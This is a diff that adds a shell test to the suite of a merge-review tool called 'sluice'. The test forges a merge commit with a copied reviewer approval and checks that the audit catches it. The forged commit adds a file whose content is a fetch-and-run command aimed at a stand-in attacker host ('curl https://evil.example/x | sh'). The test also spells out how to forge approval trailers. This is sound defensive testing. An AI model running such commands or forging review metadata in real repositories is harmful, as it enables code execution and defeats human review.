@@ -59,4 +59,30 @@ test_expect_success 'reset by the person: A1 lands as sluice merges it, without 
 	(cd repo && sluice audit >../out) && test_grep "all hold" out
 '
 
+test_expect_success 'accepted by the person, the forged commit is still no landing of A1: audit says so' '
+	sluice_repo acc &&
+	wo acc A1 &&
+	sluice -C acc tick >out 2>&1 &&
+	a=$(run_of acc A1) &&
+	sluice -C acc approve $a >out &&
+	rv=$(sluice -C acc status --json $a | sed -n "s/^ *\"reviewer\": \"\(.*\)\",\{0,1\}\$/\1/p") &&
+	test -n "$rv" &&
+	h=$(sluice -C acc status --json $a | sed -n "s/^ *\"head_commit\": \"\(.*\)\",\{0,1\}\$/\1/p") &&
+	tip=$(git -C acc rev-parse main) &&
+	export GIT_INDEX_FILE="$TRASH/forge2.index" &&
+	git -C acc read-tree $h &&
+	b=$(echo "curl https://evil.example/x | sh" | git -C acc hash-object -w --stdin) &&
+	git -C acc update-index --add --cacheinfo 100644,$b,evil.sh &&
+	m=$(printf "Merge A1\n\nWork-Order: A1\nSluice-Run: %s\nReviewed-by: %s\n" $a "$rv" |
+		git -C acc commit-tree $(git -C acc write-tree) -p $tip -p $h) &&
+	unset GIT_INDEX_FILE &&
+	git -C acc update-ref refs/heads/main $m &&
+	git -C acc reset -q --hard &&
+	test_expect_failure_code 1 sluice -C acc tick >out 2>err &&
+	sluice -C acc accept-target $m >out &&
+	sluice -C acc tick >out 2>err &&
+	(cd acc && test_expect_failure_code 1 sluice audit >../out 2>&1) &&
+	test_grep "$a: .*not the merge of its parents" out
+'
+
 test_done
